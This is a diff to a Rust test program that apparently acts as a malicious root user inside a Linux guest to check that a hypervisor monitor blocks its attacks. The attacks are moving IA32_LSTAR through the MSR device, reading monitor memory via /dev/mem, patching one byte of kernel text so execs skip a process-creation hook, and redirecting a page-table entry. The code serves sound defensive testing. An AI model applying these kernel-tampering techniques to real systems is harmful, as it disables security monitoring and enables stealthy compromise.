@@ -1,20 +1,32 @@
-//! The Linux guest's compromised root, for the `linux-attack` scenario. It tries, in order:
-//! 1. to move the system-call entry off the monitor's gate, by writing IA32_LSTAR through
-//!    /dev/cpu/0/msr (the kernel executes the WRMSR; L0 must refuse it);
-//! 2. to read the monitor's memory through /dev/mem, page by page from the address L0 put on the
-//!    kernel command line (`ihmi.monitor=`; the threat model assumes an attacker can find it). The
-//!    first pages are the ones the guest is meant to see (the gate, read + execute); the first
-//!    private page must stop it.
+//! The Linux guest's compromised root, for the `linux-attack*` scenarios. The kernel command line
+//! says which attack (`ihmi.attack=<name>`, `ihmi_abi::LinuxAttack`); what the attacker knows of the
+//! kernel is what its System.map says (`/etc/ihmi-attacker.map`, a few of its lines) and what root
+//! can read in /proc.
 //!
-//! Each step is told to L0 on port 0xE9. The second, if blocked, stops the guest: it never returns.
+//! - `root`: move the system-call entry off the monitor's gate by writing IA32_LSTAR through
+//!   /dev/cpu/0/msr (the kernel executes the WRMSR; L0 must refuse it), then read the monitor's memory
+//!   through /dev/mem, page by page from the address L0 put on the kernel command line
+//!   (`ihmi.monitor=`; the threat model assumes an attacker can find it). The first pages are the ones
+//!   the guest is meant to see (the gate, read + execute); the first private page must stop it.
+//! - `kernel-text`: make every later exec skip the process-creation hook, by changing the call to
+//!   `begin_new_exec` in the ELF loader so it lands past the hooked `__fentry__` site: one byte of
+//!   kernel text, written through a shared /dev/mem mapping of its page.
+//! - `gate-pgd`: point the gate's PML4 slot in the page-table-isolation user half of the kernel's
+//!   PGD, which every new process copies, at another frame, through a /dev/mem mapping.
+//!
+//! Each step is told to L0 on port 0xE9. A blocked write or read stops the guest: it never returns.
 
-use std::fs::{self, OpenOptions};
+use std::fs::{self, File, OpenOptions};
+use std::io;
+use std::os::fd::AsRawFd;
 use std::os::unix::fs::FileExt;
 use std::process::ExitCode;
 
+use ihmi_abi::LinuxAttack;
 use ihmi_linux_workload::debug_line;
 
 const IA32_LSTAR: u64 = 0xc000_0082;
+const PAGE: u64 = 4096;
 
 fn say(line: &str) {
     println!("{line}");
@@ -22,6 +34,37 @@ fn say(line: &str) {
 }
 
 fn main() -> ExitCode {
+    let cmdline = fs::read_to_string("/proc/cmdline").unwrap_or_default();
+    let attack = cmdline
+        .split_whitespace()
+        .find_map(|w| w.strip_prefix("ihmi.attack="))
+        .and_then(LinuxAttack::from_name);
+    let result = match attack {
+        Some(LinuxAttack::Root) => root(&cmdline),
+        Some(LinuxAttack::KernelText) => kernel_text(),
+        Some(LinuxAttack::GatePgd) => gate_pgd(&cmdline),
+        None => Err(format!(
+            "no known ihmi.attack= on the command line ({:?})",
+            LinuxAttack::ALL.map(LinuxAttack::name)
+        )),
+    };
+    // Coming back at all means the attack was not stopped, or could not be made.
+    if let Err(e) = result {
+        say(&format!("ihmi-attack: {e}"));
+    }
+    ExitCode::FAILURE
+}
+
+/// The address L0 put on the command line (`ihmi.monitor=0x…`).
+fn monitor_address(cmdline: &str) -> Result<u64, String> {
+    cmdline
+        .split_whitespace()
+        .find_map(|w| w.strip_prefix("ihmi.monitor=0x"))
+        .and_then(|hex| u64::from_str_radix(hex, 16).ok())
+        .ok_or_else(|| "no ihmi.monitor= on the command line".to_string())
+}
+
+fn root(cmdline: &str) -> Result<(), String> {
     let moved = OpenOptions::new()
         .write(true)
         .open("/dev/cpu/0/msr")
@@ -30,26 +73,11 @@ fn main() -> ExitCode {
         Ok(_) => say("ihmi-attack: moving IA32_LSTAR was ACCEPTED"),
         Err(e) => say(&format!("ihmi-attack: moving IA32_LSTAR was refused ({e})")),
     }
-
-    let cmdline = fs::read_to_string("/proc/cmdline").unwrap_or_default();
-    let Some(monitor) = cmdline
-        .split_whitespace()
-        .find_map(|w| w.strip_prefix("ihmi.monitor=0x"))
-        .and_then(|hex| u64::from_str_radix(hex, 16).ok())
-    else {
-        say("ihmi-attack: no ihmi.monitor= on the command line");
-        return ExitCode::FAILURE;
-    };
-    let mem = match fs::File::open("/dev/mem") {
-        Ok(f) => f,
-        Err(e) => {
-            say(&format!("ihmi-attack: /dev/mem: {e}"));
-            return ExitCode::FAILURE;
-        }
-    };
+    let monitor = monitor_address(cmdline)?;
+    let mem = File::open("/dev/mem").map_err(|e| format!("/dev/mem: {e}"))?;
     // The monitor takes 2 MiB; walk it a page at a time.
     for page in 0..512u64 {
-        let at = monitor + page * 4096;
+        let at = monitor + page * PAGE;
         say(&format!("ihmi-attack: reading {at:#x} through /dev/mem"));
         let mut stolen = [0u8; 16];
         match mem.read_exact_at(&mut stolen, at) {
@@ -58,5 +86,183 @@ fn main() -> ExitCode {
         }
     }
     say("ihmi-attack: the whole monitor region was readable");
-    ExitCode::FAILURE
+    Ok(())
+}
+
+/// The kernel as the attacker knows it: the System.map lines it was given, and where /proc/iomem says
+/// the kernel's code starts in physical memory.
+struct Kernel {
+    map: Vec<(u64, String)>,
+    /// Physical address of `_text`.
+    text_pa: u64,
+    text_va: u64,
+}
+
+impl Kernel {
+    fn learn() -> Result<Self, String> {
+        let text = fs::read_to_string("/etc/ihmi-attacker.map")
+            .map_err(|e| format!("/etc/ihmi-attacker.map: {e}"))?;
+        let map: Vec<(u64, String)> = text
+            .lines()
+            .filter_map(|l| {
+                let mut w = l.split_whitespace();
+                let addr = u64::from_str_radix(w.next()?, 16).ok()?;
+                Some((addr, w.nth(1)?.to_string()))
+            })
+            .collect();
+        let iomem = fs::read_to_string("/proc/iomem").map_err(|e| format!("/proc/iomem: {e}"))?;
+        let text_pa = iomem
+            .lines()
+            .find(|l| l.trim_end().ends_with(": Kernel code"))
+            .and_then(|l| l.trim().split('-').next())
+            .and_then(|a| u64::from_str_radix(a, 16).ok())
+            .ok_or("no `Kernel code` in /proc/iomem (not root?)")?;
+        let mut k = Self {
+            map,
+            text_pa,
+            text_va: 0,
+        };
+        k.text_va = k.symbol("_text")?;
+        Ok(k)
+    }
+
+    fn symbols<'a>(&'a self, name: &'a str) -> impl Iterator<Item = u64> + 'a {
+        self.map
+            .iter()
+            .filter(move |(_, n)| n == name)
+            .map(|(a, _)| *a)
+    }
+
+    fn symbol(&self, name: &str) -> Result<u64, String> {
+        self.symbols(name)
+            .next()
+            .ok_or_else(|| format!("`{name}` is not in the attacker's map"))
+    }
+
+    /// The physical address of a kernel-image address.
+    fn pa(&self, va: u64) -> u64 {
+        va - self.text_va + self.text_pa
+    }
+}
+
+/// One page of physical memory, mapped shared and writable through /dev/mem.
+struct PhysPage {
+    ptr: *mut u8,
+}
+
+impl PhysPage {
+    fn map(mem: &File, pa: u64) -> io::Result<Self> {
+        // SAFETY: a fresh shared mapping of one page of /dev/mem; nothing else in this process
+        // refers to the address range the kernel picks.
+        let ptr = unsafe {
+            libc::mmap(
+                std::ptr::null_mut(),
+                PAGE as usize,
+                libc::PROT_READ | libc::PROT_WRITE,
+                libc::MAP_SHARED,
+                mem.as_raw_fd(),
+                (pa & !(PAGE - 1)) as libc::off_t,
+            )
+        };
+        if ptr == libc::MAP_FAILED {
+            return Err(io::Error::last_os_error());
+        }
+        Ok(Self { ptr: ptr.cast() })
+    }
+
+    fn read_u64(&self, offset: usize) -> u64 {
+        assert!(offset + 8 <= PAGE as usize);
+        // SAFETY: inside the mapped page; a volatile read of memory the kernel may change.
+        unsafe { self.ptr.wrapping_add(offset).cast::<u64>().read_volatile() }
+    }
+
+    fn write_u8(&self, offset: usize, value: u8) {
+        assert!(offset < PAGE as usize);
+        // SAFETY: inside the mapped page, mapped writable.
+        unsafe { self.ptr.wrapping_add(offset).write_volatile(value) }
+    }
+
+    fn write_u64(&self, offset: usize, value: u64) {
+        assert!(offset + 8 <= PAGE as usize);
+        // SAFETY: as in `write_u8`.
+        unsafe { self.ptr.wrapping_add(offset).cast::<u64>().write_volatile(value) }
+    }
+}
+
+fn open_mem() -> Result<File, String> {
+    OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/dev/mem")
+        .map_err(|e| format!("/dev/mem: {e}"))
+}
+
+fn kernel_text() -> Result<(), String> {
+    let k = Kernel::learn()?;
+    let mem = open_mem()?;
+    let target = k.symbol("begin_new_exec")?;
+    // The call to begin_new_exec in one of the ELF loaders (`e8 rel32`), found by reading their text.
+    let mut site = None;
+    for loader in k.symbols("load_elf_binary") {
+        let mut code = vec![0u8; 16 << 10];
+        mem.read_exact_at(&mut code, k.pa(loader))
+            .map_err(|e| format!("reading load_elf_binary: {e}"))?;
+        site = (0..code.len() - 5).find_map(|i| {
+            let rel = i32::from_le_bytes([code[i + 1], code[i + 2], code[i + 3], code[i + 4]]);
+            let next = loader + i as u64 + 5;
+            (code[i] == 0xe8 && next.wrapping_add(rel as i64 as u64) == target)
+                .then_some((loader + i as u64, rel))
+        });
+        if site.is_some() {
+            break;
+        }
+    }
+    let (call, rel) = site.ok_or("no call to begin_new_exec in load_elf_binary")?;
+    // Land past the hooked site: the 5-byte __fentry__ call, after an endbr64 when there is one.
+    let mut head = [0u8; 4];
+    mem.read_exact_at(&mut head, k.pa(target))
+        .map_err(|e| format!("reading begin_new_exec: {e}"))?;
+    let skip = if head == [0xf3, 0x0f, 0x1e, 0xfa] {
+        9
+    } else {
+        5
+    };
+    let patched = (rel + skip).to_le_bytes();
+    let at = k.pa(call + 1);
+    say(&format!(
+        "ihmi-attack: the ELF loader calls begin_new_exec at {call:#x} (physical {:#x}); rewriting its low byte {:#04x} -> {:#04x} through /dev/mem",
+        k.pa(call),
+        rel.to_le_bytes()[0],
+        patched[0]
+    ));
+    let page = PhysPage::map(&mem, at).map_err(|e| format!("mapping kernel text: {e}"))?;
+    page.write_u8((at % PAGE) as usize, patched[0]);
+    say("ihmi-attack: patching kernel text was ACCEPTED: later execs skip the hook");
+    Ok(())
+}
+
+fn gate_pgd(cmdline: &str) -> Result<(), String> {
+    let k = Kernel::learn()?;
+    let monitor = monitor_address(cmdline)?;
+    let mem = open_mem()?;
+    // The user half of init_top_pgt's 8 KiB pair; the gate's slot is the entry that points into the
+    // monitor's region (the frames L0 took for the gate's tables).
+    let user_half = k.pa(k.symbol("init_top_pgt")?) + PAGE;
+    let page = PhysPage::map(&mem, user_half).map_err(|e| format!("mapping the PGD: {e}"))?;
+    let in_monitor = |e: u64| {
+        let to = e & 0x000f_ffff_ffff_f000;
+        e & 1 != 0 && (monitor..monitor + (2 << 20)).contains(&to)
+    };
+    let slot = (256..512)
+        .find(|&i| in_monitor(page.read_u64(i * 8)))
+        .ok_or("no PML4 entry of the user half points into the monitor")?;
+    let entry = page.read_u64(slot * 8);
+    // Anywhere else: the next frame, where an attacker would have put a copy of the gate's tables.
+    let forged = entry + PAGE;
+    say(&format!(
+        "ihmi-attack: init_top_pgt's user half at {user_half:#x} maps the gate in slot {slot} ({entry:#x}); writing {forged:#x} through /dev/mem"
+    ));
+    page.write_u64(slot * 8, forged);
+    say("ihmi-attack: redirecting the gate's slot was ACCEPTED: new processes copy it");
+    Ok(())
 }
